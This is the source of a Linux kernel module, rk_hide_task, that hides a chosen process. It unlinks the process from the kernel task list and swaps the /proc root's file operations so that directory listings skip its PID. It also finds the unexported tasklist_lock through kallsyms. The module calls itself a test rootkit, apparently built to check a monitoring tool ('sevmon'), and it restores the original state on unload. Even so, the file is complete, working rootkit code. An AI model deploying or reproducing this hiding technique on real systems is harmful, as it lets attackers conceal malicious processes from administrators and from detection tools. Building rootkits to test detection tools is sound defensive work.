// SPDX-License-Identifier: GPL-2.0
/*
 * rk_hide_task: hides a running process, two ways (mode=list, mode=proc, or mode=both).
 *
 * mode=list: unlinks the task from the kernel's task list (init_task.tasks, what
 *   for_each_process() walks). Fools: for_each_process users, e.g. SysRq-t (show_state) and
 *   the hung-task detector, and any introspection that walks init_task.tasks (sevmon ps).
 *   Does NOT fool /proc: since 2.6 /proc enumerates pids from the pid IDR (next_tgid ->
 *   find_ge_pid), not from the task list, so ps, ls /proc and kill -0 still see it.
 *
 * mode=proc: what userland-facing rootkits do (adore-ng style VFS hook): the /proc root inode's
 *   file_operations pointer (i_fop, in a writable slab object) is replaced by a copy whose
 *   iterate_shared wraps the real proc_root_readdir with a filldir that drops the pid's entry.
 *   Fools: getdents64 on /proc, hence ps, top, pidof, ls /proc. Does NOT fool: lookups by
 *   name (/proc/PID/stat still opens, kill -0 PID works: a pid brute-force finds it), the
 *   task list, the pid IDR, or other proc mounts (only the superblock of /proc is hooked).
 *
 * Unloading restores both (the task is relinked if it is still alive). /proc files opened
 * while hooked hold a reference on this module (our fops .owner), so rmmod waits for them.
 * Caveat (mode=list): the task must not exit during the RCU grace period right after the
 * unlink (a few ms); after that its exit is safe (its list node is made self-linked).
 */
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/namei.h>
#include <linux/path.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include "rk_common.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process (thread-group leader) to hide");
static char *mode = "both";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "list, proc or both");
static unsigned long hidden_entries;
module_param(hidden_entries, ulong, 0444);
MODULE_PARM_DESC(hidden_entries, "/proc directory entries dropped so far");

static struct task_struct *task;
static rwlock_t *tasklist;	/* tasklist_lock: not exported, found via kallsyms */
static bool unlinked;

/* --- mode=list -------------------------------------------------------------------------- */

static int rk_unlink_task(void)
{
	tasklist = (rwlock_t *)rk_lookup("tasklist_lock");
	if (!tasklist)
		return -ENOENT;
	write_lock_irq(tasklist);
	if (!pid_alive(task)) {
		write_unlock_irq(tasklist);
		return -ESRCH;
	}
	list_del_rcu(&task->tasks);
	write_unlock_irq(tasklist);
	/* Lockless readers may still stand on our node and follow ->next: wait them out. */
	synchronize_rcu();
	write_lock_irq(tasklist);
	/* Self-linked: the list_del_rcu() in __unhash_process() at exit is then harmless. */
	task->tasks.next = &task->tasks;
	task->tasks.prev = &task->tasks;
	write_unlock_irq(tasklist);
	unlinked = true;
	return 0;
}

static void rk_relink_task(void)
{
	write_lock_irq(tasklist);
	if (pid_alive(task) && task->tasks.next == &task->tasks)
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irq(tasklist);
}

/* --- mode=proc ------------------------------------------------------------------------- */

static struct path proc_root;
static struct inode *proc_inode;
static const struct file_operations *real_fops;
static struct file_operations rk_fops;
static char pid_name[16];
static int pid_len;

struct rk_dir_ctx {
	struct dir_context ctx;		/* handed to the real readdir */
	struct dir_context *caller;	/* getdents64's context */
};

static bool rk_filldir(struct dir_context *ctx, const char *name, int len, loff_t off,
		       u64 ino, unsigned int type)
{
	struct rk_dir_ctx *c = container_of(ctx, struct rk_dir_ctx, ctx);

	if (len == pid_len && !memcmp(name, pid_name, len)) {
		hidden_entries++;
		return true;	/* "emitted": carry on with the next entry */
	}
	c->caller->pos = ctx->pos;
	return c->caller->actor(c->caller, name, len, off, ino, type);
}

static int rk_iterate_shared(struct file *file, struct dir_context *caller)
{
	struct rk_dir_ctx c = { .ctx.actor = rk_filldir, .ctx.pos = caller->pos, .caller = caller };
	int ret = real_fops->iterate_shared(file, &c.ctx);

	caller->pos = c.ctx.pos;
	return ret;
}

static int rk_hook_proc(void)
{
	int err = kern_path("/proc", LOOKUP_FOLLOW, &proc_root);

	if (err)
		return err;
	proc_inode = d_inode(proc_root.dentry);
	real_fops = proc_inode->i_fop;
	if (!real_fops || !real_fops->iterate_shared) {
		path_put(&proc_root);
		return -EINVAL;
	}
	rk_fops = *real_fops;
	rk_fops.owner = THIS_MODULE;	/* every open /proc dir pins this module */
	rk_fops.iterate_shared = rk_iterate_shared;
	pid_len = snprintf(pid_name, sizeof(pid_name), "%d", pid);
	WRITE_ONCE(proc_inode->i_fop, &rk_fops);
	return 0;	/* proc_root stays referenced (and /proc mounted) until unload */
}

static void rk_unhook_proc(void)
{
	WRITE_ONCE(proc_inode->i_fop, real_fops);
	path_put(&proc_root);
}

/* --- module --------------------------------------------------------------------------- */

static bool want_list, want_proc;

static int __init rk_init(void)
{
	int err;

	want_list = !strcmp(mode, "list") || !strcmp(mode, "both");
	want_proc = !strcmp(mode, "proc") || !strcmp(mode, "both");
	if (!want_list && !want_proc)
		return -EINVAL;
	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;
	if (!thread_group_leader(task)) {
		err = -EINVAL;
		goto out_put;
	}
	if (want_list) {
		err = rk_unlink_task();
		if (err)
			goto out_put;
	}
	if (want_proc) {
		err = rk_hook_proc();
		if (err)
			goto out_relink;
	}
	pr_info("rk_hide_task: pid %d (%s) hidden (mode=%s)\n", pid, task->comm, mode);
	return 0;
out_relink:
	if (unlinked)
		rk_relink_task();
out_put:
	put_task_struct(task);
	return err;
}

static void __exit rk_exit(void)
{
	if (want_proc)
		rk_unhook_proc();
	if (unlinked)
		rk_relink_task();
	put_task_struct(task);
	pr_info("rk_hide_task: pid %d visible again\n", pid);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("sevmon test rootkit: hides a process from the task list and/or /proc");
